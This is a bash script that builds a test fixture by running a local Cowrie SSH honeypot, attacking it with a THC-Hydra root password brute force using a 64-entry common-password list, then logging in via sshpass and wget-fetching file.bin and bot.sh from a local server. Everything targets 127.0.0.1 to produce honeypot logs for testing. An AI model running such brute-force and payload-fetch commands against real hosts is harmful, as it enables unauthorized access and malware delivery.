#!/bin/bash
# Produce testdata/cowrie/hydra.json: a separate Cowrie run with its own state dir and an EMPTY log, attacked on
# 127.0.0.1:2222 by (1) a THC-Hydra SSH password brute force against root (64 passwords, all rejected), then
# (2) one OpenSSH session (sshpass, root/toor) that wgets file.bin, bot.sh and file.bin again.
# Assumes (see regen.sh): cowrie venv, user 'cowrie', state dir $CH with etc/cowrie.cfg (config/cowrie.cfg) and
# etc/userdb.txt = 'root:x:toor' (only toor is accepted for root), hydra + sshpass installed, and
# python3 -m http.server 8000 --bind 127.0.0.1 serving httproot/ (file.bin, bot.sh). Every step is time-bounded.
set -u
TF=/work/tools-fixtures; CH=${CH:-$TF/cowrie-hydra-home}
H=127.0.0.1; P=2222; HTTP=8000
step(){ echo "=== $*"; }
cowrie_pid(){ local p; for p in $(pgrep -u cowrie -f 'cowrie-venv/bin/twistd'); do
  [ "$(readlink /proc/$p/cwd)" = "$CH" ] && { echo $p; return; }; done; }
stop_cowrie(){ local p; p=$(cowrie_pid); [ -n "$p" ] || return 0
  kill "$p"; for i in $(seq 1 30); do kill -0 "$p" 2>/dev/null || return 0; sleep 0.5; done; kill -9 "$p"; }

step "0. fresh cowrie (empty log) in $CH"
stop_cowrie
if ss -ltn | grep -q "$H:$P "; then echo "port $P is busy (another cowrie?), aborting"; exit 1; fi
rm -f $CH/var/log/cowrie/cowrie.json* $CH/var/lib/cowrie/downloads/* $CH/var/lib/cowrie/tty/*
nohup runuser -u cowrie -- env -C $CH PATH=$TF/cowrie-venv/bin:/usr/bin:/bin TZ=UTC COWRIE_STDOUT=yes \
  PYTHONDONTWRITEBYTECODE=1 $TF/cowrie-venv/bin/cowrie start > $TF/cowrie-hydra-stdout.log 2>&1 &
for i in $(seq 1 40); do ss -ltn | grep -q "$H:$P " && break; sleep 0.5; done
sleep 1
ss -ltn | grep -q "$H:$P " || { echo "cowrie did not start"; cat $TF/cowrie-hydra-stdout.log; exit 1; }

step "1. hydra: root x 64 common passwords (toor is not among them), 4 tasks"
mkdir -p $TF/hydra && cd $TF/hydra && rm -f hydra.restore
cat > wordlist.txt <<'EOF'
123456
password
12345678
qwerty
123456789
12345
1234
111111
1234567
dragon
123123
baseball
abc123
football
monkey
letmein
696969
shadow
master
666666
qwertyuiop
123321
mustang
1234567890
michael
654321
superman
1qaz2wsx
7777777
121212
000000
qazwsx
123qwe
killer
trustno1
jordan
jennifer
zxcvbnm
asdfgh
hunter
buster
soccer
harley
batman
andrew
tigger
sunshine
iloveyou
2000
charlie
robert
thomas
hockey
ranger
daniel
starwars
klaster
112233
george
computer
michelle
jessica
pepper
admin
EOF
hydra -V 2>&1 | head -1 || true
timeout 300 hydra -I -l root -P wordlist.txt -t 4 -s $P -o $TF/hydra/hydra-found.txt ssh://$H; echo "hydra rc=$?"
sleep 2

step "2. OpenSSH session as root/toor: wget file.bin, wget bot.sh, wget file.bin again"
timeout 60 sshpass -p toor ssh -F /dev/null -p $P -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
  -o LogLevel=ERROR -o ConnectTimeout=5 -o PubkeyAuthentication=no -o PreferredAuthentications=password \
  -o NumberOfPasswordPrompts=1 root@$H \
  "wget http://$H:$HTTP/file.bin; wget http://$H:$HTTP/bot.sh; wget http://$H:$HTTP/file.bin"; echo "ssh rc=$?"
sleep 2
stop_cowrie
sleep 1
echo done
